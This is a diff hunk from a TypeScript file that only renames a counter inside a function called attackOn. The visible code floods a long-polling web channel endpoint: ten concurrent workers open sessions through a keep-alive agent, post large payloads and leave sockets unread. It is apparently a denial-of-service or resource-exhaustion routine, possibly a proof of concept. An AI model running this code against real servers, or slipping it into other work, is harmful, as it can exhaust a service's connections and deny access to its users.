@@ -120,16 +120,16 @@ async function attackOn(
   stop: AbortSignal,
 ): Promise<{ opened: number; refused: number }> {
   const agent = keepAliveAgentFrom(hostile, 20);
-  const told = { opened: 0, refused: 0 };
+  const counts = { opened: 0, refused: 0 };
   const openOne = async (): Promise<void> => {
     const answer = await postFrom(agent, `${url}${channel}&RID=1`, everything(0, 3));
     const session = /"c","([^"]+)"/.exec(answer.text)?.[1];
     if (session === undefined) {
-      told.refused += 1;
+      counts.refused += 1;
       await pause(20);
       return;
     }
-    told.opened += 1;
+    counts.opened += 1;
     const more = `${url}${channel}&SID=${session}&RID=2`;
     await postFrom(agent, more, everything(3, 17));
     sockets.push(neverRead(url, 'GET', `${channel}&SID=${session}&RID=rpc&AID=0&CI=0&TYPE=xmlhttp`, ''));
@@ -147,7 +147,7 @@ async function attackOn(
   };
   await Promise.all([...Array.from({ length: 10 }, work), unreadAnswers()]);
   agent.destroy();
-  return told;
+  return counts;
 }
 
 /** A form that asks for everything that a visitor may see, again and again. */
